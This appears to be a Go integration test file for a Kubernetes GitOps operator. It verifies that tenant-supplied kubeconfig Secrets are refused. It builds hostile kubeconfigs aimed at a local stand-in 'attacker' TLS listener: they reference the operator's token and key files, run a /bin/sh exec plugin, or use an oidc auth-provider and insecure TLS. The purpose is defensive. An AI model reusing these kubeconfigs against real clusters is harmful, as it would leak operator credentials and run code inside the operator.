package controllers_test

import (
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/pem"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
	"sigs.k8s.io/controller-runtime/pkg/client"

	// The oidc auth-provider is linked into this test binary (the manager
	// links none), so that the auth-provider escape is a working attack
	// when the defence is off, not a "plugin not found" error.
	_ "k8s.io/client-go/plugin/pkg/client/auth/oidc"

	configsv1 "github.com/configsync/configsync/api/v1alpha1"
	"github.com/configsync/configsync/charts/chartstest"
	"github.com/configsync/configsync/controllers"
	"github.com/configsync/configsync/internal/testgit"
)

// attacker is a loopback TLS listener standing in for a server a tenant
// controls: it counts every connection (a TLS handshake with a client
// certificate is already a leak) and every request (a bearer token).
type attacker struct {
	srv                          *httptest.Server
	conns, requests, clientCerts atomic.Int64
	ca                           []byte // PEM of its certificate, for certificate-authority-data
}

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	a := &attacker{}
	a.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.requests.Add(1)
		if r.TLS != nil && len(r.TLS.PeerCertificates) > 0 {
			a.clientCerts.Add(1)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{}`))
	}))
	a.srv.TLS = &tls.Config{ClientAuth: tls.RequestClientCert}
	a.srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			a.conns.Add(1)
		}
	}
	a.srv.StartTLS()
	t.Cleanup(a.srv.Close)
	a.ca = pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: a.srv.Certificate().Raw})
	return a
}

// writeKubeconfig serialises a kubeconfig whose current context is cluster and user.
func writeKubeconfig(t *testing.T, cluster *clientcmdapi.Cluster, user *clientcmdapi.AuthInfo) []byte {
	t.Helper()
	cfg := clientcmdapi.NewConfig()
	cfg.Clusters["target"] = cluster
	cfg.Contexts["target"] = &clientcmdapi.Context{Cluster: "target"}
	if user != nil {
		cfg.AuthInfos["tenant"] = user
		cfg.Contexts["target"].AuthInfo = "tenant"
	}
	cfg.CurrentContext = "target"
	data, err := clientcmd.Write(*cfg)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// writeFile writes content into a new file of a temporary folder, standing
// in for a file of the operator's pod, and returns its path.
func writeFile(t *testing.T, name string, content []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// escape is one kubeconfig a tenant puts in a Secret of its namespace,
// aimed at the attacker's listener.
type escape struct {
	name       string
	kubeconfig func(t *testing.T, evil *attacker, marker string) []byte
	field      string   // the field the refusal must name
	secrets    []string // values that must show nowhere
}

// Given a tenant who may create Secrets and ConfigSyncs in its namespace and
// runs a TLS listener of its own (the "attacker"), and an operator with the
// default kubeconfig policy: each kubeconfig below would, if honoured, make
// the operator send its own token, certificate or files' content to that
// listener, or run a program inside the operator. Each is refused before any
// connection is made: the ConfigSync is Ready=False and Stalled with reason
// AccessDenied naming the field; the listener sees no connection and the
// exec plugin's marker file never appears, for as long as the test runs;
// nothing is applied; and neither the operator's token nor the tenant's own
// secrets show in status, Events or the manager's logs.
func TestKubeconfigEscapesAreRefused(t *testing.T) {
	repo := testgit.Start(t).NewRepo(t, "escape.git")
	repo.Commit(t, map[string]string{"cm.yaml": configMap("escaped-config", "red")}, "escape")

	// The operator's own credentials, as files of its pod.
	operatorToken := "operator-sa-token-" + rand.Text()
	tokenFile := writeFile(t, "token", []byte(operatorToken))
	certPEM, keyPEM := chartstest.ClientCertificate(t, "system:serviceaccount:configsync-system:configsync")
	certFile, keyFile := writeFile(t, "tls.crt", certPEM), writeFile(t, "tls.key", keyPEM)
	tenantToken := "tenant-token-" + rand.Text()
	registerSecret(operatorToken, tenantToken)

	for _, e := range kubeconfigEscapes(operatorFiles{tokenFile, certFile, keyFile, keyPEM}, operatorToken, tenantToken) {
		t.Run(e.name, func(t *testing.T) {
			t.Parallel()
			runKubeconfigEscape(t, repo.URL, e)
		})
	}
}

// operatorFiles are files of the operator's pod a kubeconfig may name: its
// ServiceAccount token, and a client certificate and key (keyPEM is the
// key's content).
type operatorFiles struct {
	tokenFile, certFile, keyFile string
	keyPEM                       []byte
}

// kubeconfigEscapes are the kubeconfigs a tenant tries, each aimed at an
// attacker's listener with the operator's files or the tenant's token.
func kubeconfigEscapes(files operatorFiles, operatorToken, tenantToken string) []escape {
	tokenFile, certFile, keyFile, keyPEM := files.tokenFile, files.certFile, files.keyFile, files.keyPEM

	trusted := func(evil *attacker) *clientcmdapi.Cluster {
		return &clientcmdapi.Cluster{Server: evil.srv.URL, CertificateAuthorityData: evil.ca}
	}
	execCred := `{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"` + tenantToken + `"}}`
	return []escape{{
		name: "tokenFile to the attacker, verified TLS",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			return writeKubeconfig(t, trusted(evil), &clientcmdapi.AuthInfo{TokenFile: tokenFile})
		},
		field: "tokenFile", secrets: []string{operatorToken},
	}, {
		name: "tokenFile to the attacker, insecure-skip-tls-verify",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			return writeKubeconfig(t, &clientcmdapi.Cluster{Server: evil.srv.URL, InsecureSkipTLSVerify: true}, &clientcmdapi.AuthInfo{TokenFile: tokenFile})
		},
		field: "tokenFile", secrets: []string{operatorToken},
	}, {
		name: "exec plugin",
		kubeconfig: func(t *testing.T, evil *attacker, marker string) []byte {
			return writeKubeconfig(t, trusted(evil), &clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{
				APIVersion: "client.authentication.k8s.io/v1", Command: "/bin/sh",
				Args:            []string{"-c", "touch " + marker + "; echo '" + execCred + "'"},
				InteractiveMode: clientcmdapi.NeverExecInteractiveMode}})
		},
		field: "exec", secrets: []string{tenantToken},
	}, {
		name: "auth-provider plugin",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			return writeKubeconfig(t, trusted(evil), &clientcmdapi.AuthInfo{AuthProvider: &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{
				"idp-issuer-url": evil.srv.URL, "client-id": "configsync", "client-secret": tenantToken, "refresh-token": tenantToken,
				"idp-certificate-authority-data": base64.StdEncoding.EncodeToString(evil.ca)}}})
		},
		field: "auth-provider", secrets: []string{tenantToken},
	}, {
		name: "client-certificate and client-key files",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			return writeKubeconfig(t, trusted(evil), &clientcmdapi.AuthInfo{ClientCertificate: certFile, ClientKey: keyFile})
		},
		field: "client-certificate", secrets: []string{string(keyPEM)},
	}, {
		name: "certificate-authority file",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			caFile := writeFile(t, "ca.crt", evil.ca)
			return writeKubeconfig(t, &clientcmdapi.Cluster{Server: evil.srv.URL, CertificateAuthority: caFile}, &clientcmdapi.AuthInfo{Token: tenantToken})
		},
		field: "certificate-authority", secrets: []string{tenantToken},
	}, {
		name: "insecure-skip-tls-verify",
		kubeconfig: func(t *testing.T, evil *attacker, _ string) []byte {
			return writeKubeconfig(t, &clientcmdapi.Cluster{Server: evil.srv.URL, InsecureSkipTLSVerify: true}, &clientcmdapi.AuthInfo{Token: tenantToken})
		},
		field: "insecure-skip-tls-verify", secrets: []string{tenantToken},
	}}
}

// runKubeconfigEscape creates a ConfigSync of repoURL whose kubeconfig
// Secret holds e's kubeconfig, aimed at an attacker's listener of its own,
// and checks that it is refused with nothing reached, applied or leaked.
func runKubeconfigEscape(t *testing.T, repoURL string, e escape) {
	g := NewWithT(t)
	ctx := context.Background()
	evil := startAttacker(t)
	marker := filepath.Join(t.TempDir(), "exec-ran")
	// Registered after startAttacker, so it runs before the listener
	// closes, and even when an assertion below stops the test.
	t.Cleanup(func() {
		if n, r, c := evil.conns.Load(), evil.requests.Load(), evil.clientCerts.Load(); n+r+c > 0 {
			t.Errorf("the attacker's listener saw %d connection(s), %d request(s), %d client certificate(s)", n, r, c)
		}
		if _, err := os.Stat(marker); err == nil {
			t.Errorf("the exec plugin ran inside the operator")
		}
	})
	ns := newNamespace(t)
	g.Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "elsewhere"},
		Data: map[string][]byte{"value": e.kubeconfig(t, evil, marker)}})).To(Succeed())
	cs := newConfigSync(ns, "escape", repoURL, "")
	cs.Spec.KubeConfigSecretRef = &configsv1.SecretKeyReference{Name: "elsewhere"}
	g.Expect(k8s.Create(ctx, cs)).To(Succeed())

	g.Eventually(func(g Gomega) {
		cs := getConfigSync(g, ns, "escape")
		ready := condition(cs, configsv1.ConditionReady)
		g.Expect(ready.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(ready.Reason).To(Equal(configsv1.ReasonAccessDenied))
		g.Expect(ready.Message).To(And(ContainSubstring("kubeconfig Secret "+ns+"/elsewhere"), ContainSubstring(e.field+" is not allowed")))
		g.Expect(condition(cs, configsv1.ConditionStalled).Reason).To(Equal(configsv1.ReasonAccessDenied))
	}, timeout).Should(Succeed())

	cs = getConfigSync(g, ns, "escape")
	g.Expect(cs.Status.Inventory).To(BeEmpty())
	g.Expect(cs.Status.AppliedTargets).To(BeZero())
	err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "escaped-config"}, &corev1.ConfigMap{})
	g.Expect(apierrors.IsNotFound(err)).To(BeTrue(), "nothing is applied")
	msg := condition(cs, configsv1.ConditionReady).Message
	recordEscape(t, "kubeconfig "+e.name, configsv1.ReasonAccessDenied+": "+quote(e.field+" is not allowed"),
		condition(cs, configsv1.ConditionReady).Reason, evil.conns.Load()+evil.requests.Load(), 0)
	g.Expect(msg).NotTo(ContainSubstring(strings.TrimPrefix(evil.srv.URL, "https://")), "the message quotes nothing of the Secret")
	for _, s := range e.secrets {
		assertNoLeak(g, ns, "escape", s)
		g.Expect(managerLogs.String()).NotTo(ContainSubstring(s))
	}
}

// Given a ServiceAccount "remote-deployer" that may write ConfigMaps in
// namespace a only, and a kubeconfig for the cluster with inline data only
// (certificate-authority-data and the ServiceAccount's token): a ConfigSync
// with that kubeconfig applies its ConfigMap, as remote-deployer; one whose
// source also writes into namespace b is refused by the dry-run naming
// remote-deployer (the operator itself may write anywhere, so its
// credentials were not used); a kubeconfig with no user applies nothing (the
// operator's credentials never fill the gap); and with serviceAccountName
// "deployer", remote-deployer impersonates deployer on that cluster (the
// kubeconfig Secret is read as deployer, which may get it).
func TestInlineKubeconfigAppliesAsItsOwnIdentity(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	a, b := newNamespace(t), newNamespace(t)
	grantConfigMaps(t, a, "remote-deployer")
	grantConfigMaps(t, a, "deployer")
	grantRole(t, a, "impersonate-deployer", "remote-deployer", rbacv1.PolicyRule{
		APIGroups: []string{""}, Resources: []string{"serviceaccounts"}, ResourceNames: []string{"deployer"}, Verbs: []string{"impersonate"}})
	grantRole(t, a, "read-kubeconfig", "deployer", rbacv1.PolicyRule{
		APIGroups: []string{""}, Resources: []string{"secrets"}, ResourceNames: []string{"remote-deployer"}, Verbs: []string{"get"}})
	token := serviceAccountToken(t, a, "remote-deployer")

	cluster := &clientcmdapi.Cluster{Server: restConfig.Host, CertificateAuthorityData: restConfig.CAData}
	for name, data := range map[string][]byte{
		"remote-deployer": writeKubeconfig(t, cluster, &clientcmdapi.AuthInfo{Token: token}),
		"anonymous":       writeKubeconfig(t, cluster, nil),
	} {
		g.Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: a, Name: name}, Data: map[string][]byte{"value": data}})).To(Succeed())
	}
	server := testgit.Start(t)
	own := server.NewRepo(t, "own.git")
	own.Commit(t, map[string]string{"cm.yaml": configMap("inline-config", "blue")}, "own")
	anon := server.NewRepo(t, "anon.git")
	anon.Commit(t, map[string]string{"cm.yaml": configMap("anonymous-config", "blue")}, "anon")
	reach := server.NewRepo(t, "reach.git")
	reach.Commit(t, map[string]string{
		"mine.yaml":   configMap("mine", "blue"),
		"theirs.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: theirs\n  namespace: " + b + "\ndata:\n  color: red\n",
	}, "reach")
	create := func(name, url, secret, sa string) {
		cs := newConfigSync(a, name, url, "")
		cs.Spec.KubeConfigSecretRef = &configsv1.SecretKeyReference{Name: secret}
		cs.Spec.ServiceAccountName = sa
		g.Expect(k8s.Create(ctx, cs)).To(Succeed())
	}
	create("own", own.URL, "remote-deployer", "")
	create("reach", reach.URL, "remote-deployer", "")
	create("anonymous", anon.URL, "anonymous", "")
	create("impersonating", reach.URL, "remote-deployer", "deployer")

	g.Eventually(func(g Gomega) {
		g.Expect(condition(getConfigSync(g, a, "own"), configsv1.ConditionReady).Status).To(Equal(metav1.ConditionTrue))
		g.Expect(configMapData(g, a, "inline-config")).To(HaveKeyWithValue("color", "blue"))
	}, timeout).Should(Succeed())
	forbiddenAs := func(name, user string) {
		g.Eventually(func(g Gomega) {
			ready := condition(getConfigSync(g, a, name), configsv1.ConditionReady)
			g.Expect(ready.Status).To(Equal(metav1.ConditionFalse))
			g.Expect(ready.Reason).To(Equal(configsv1.ReasonDryRunFailed))
			g.Expect(ready.Message).To(And(ContainSubstring("ConfigMap/"+b+"/theirs"), ContainSubstring("forbidden"), ContainSubstring(`"`+user+`"`)))
		}, timeout).Should(Succeed(), name)
	}
	forbiddenAs("reach", "system:serviceaccount:"+a+":remote-deployer")
	forbiddenAs("impersonating", "system:serviceaccount:"+a+":deployer")
	g.Eventually(func(g Gomega) {
		ready := condition(getConfigSync(g, a, "anonymous"), configsv1.ConditionReady)
		g.Expect(ready.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(ready.Message).To(ContainSubstring("ConfigMap/anonymous-config"))
	}, timeout).Should(Succeed())
	for _, key := range []client.ObjectKey{{Namespace: a, Name: "mine"}, {Namespace: b, Name: "theirs"}, {Namespace: a, Name: "anonymous-config"}} {
		err := k8s.Get(ctx, key, &corev1.ConfigMap{})
		g.Expect(apierrors.IsNotFound(err)).To(BeTrue(), "%s must not be applied", key)
	}
	assertNoLeak(g, a, "own", token)
}

// Given an operator shard whose admin set --kubeconfig-allow-exec and
// --kubeconfig-insecure-tls, and a ServiceAccount that may write ConfigMaps
// in its namespace: a kubeconfig whose exec plugin prints that
// ServiceAccount's token, with insecure-skip-tls-verify, applies its
// ConfigMap; a kubeconfig naming a file of the operator's (the same token in
// a tokenFile) is still refused: no flag allows file references.
func TestAdminAllowsExecAndInsecureKubeconfigs(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t)
	grantConfigMaps(t, ns, "plugin-deployer")
	token := serviceAccountToken(t, ns, "plugin-deployer")

	startShard(t, "unsafe-kubeconfigs", controllers.Options{Workers: 2,
		Kubeconfig: controllers.KubeconfigPolicy{AllowExec: true, InsecureTLS: true}})

	execCred := `{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"` + token + `"}}`
	for name, data := range map[string][]byte{
		"exec-insecure": writeKubeconfig(t, &clientcmdapi.Cluster{Server: restConfig.Host, InsecureSkipTLSVerify: true},
			&clientcmdapi.AuthInfo{Exec: &clientcmdapi.ExecConfig{APIVersion: "client.authentication.k8s.io/v1", Command: "/bin/sh",
				Args: []string{"-c", "echo '" + execCred + "'"}, InteractiveMode: clientcmdapi.NeverExecInteractiveMode}}),
		"token-file": writeKubeconfig(t, &clientcmdapi.Cluster{Server: restConfig.Host, CertificateAuthorityData: restConfig.CAData},
			&clientcmdapi.AuthInfo{TokenFile: writeFile(t, "token", []byte(token))}),
	} {
		g.Expect(k8s.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, Data: map[string][]byte{"value": data}})).To(Succeed())
	}
	server := testgit.Start(t)
	plugin := server.NewRepo(t, "plugin.git")
	plugin.Commit(t, map[string]string{"cm.yaml": configMap("plugin-config", "blue")}, "plugin")
	file := server.NewRepo(t, "file.git")
	file.Commit(t, map[string]string{"cm.yaml": configMap("file-config", "blue")}, "file")
	for name, url := range map[string]string{"exec-insecure": plugin.URL, "token-file": file.URL} {
		cs := newConfigSync(ns, name, url, "")
		cs.Spec.KubeConfigSecretRef = &configsv1.SecretKeyReference{Name: name}
		g.Expect(k8s.Create(ctx, inShard(cs, "unsafe-kubeconfigs"))).To(Succeed())
	}

	g.Eventually(func(g Gomega) {
		g.Expect(condition(getConfigSync(g, ns, "exec-insecure"), configsv1.ConditionReady).Status).To(Equal(metav1.ConditionTrue))
		g.Expect(configMapData(g, ns, "plugin-config")).To(HaveKeyWithValue("color", "blue"))
	}, timeout).Should(Succeed())
	g.Eventually(func(g Gomega) {
		ready := condition(getConfigSync(g, ns, "token-file"), configsv1.ConditionReady)
		g.Expect(ready.Reason).To(Equal(configsv1.ReasonAccessDenied))
		g.Expect(ready.Message).To(ContainSubstring("tokenFile is not allowed"))
	}, timeout).Should(Succeed())
	err := k8s.Get(ctx, client.ObjectKey{Namespace: ns, Name: "file-config"}, &corev1.ConfigMap{})
	g.Expect(apierrors.IsNotFound(err)).To(BeTrue())
	assertNoLeak(g, ns, "exec-insecure", token)
	assertNoLeak(g, ns, "token-file", token)
}
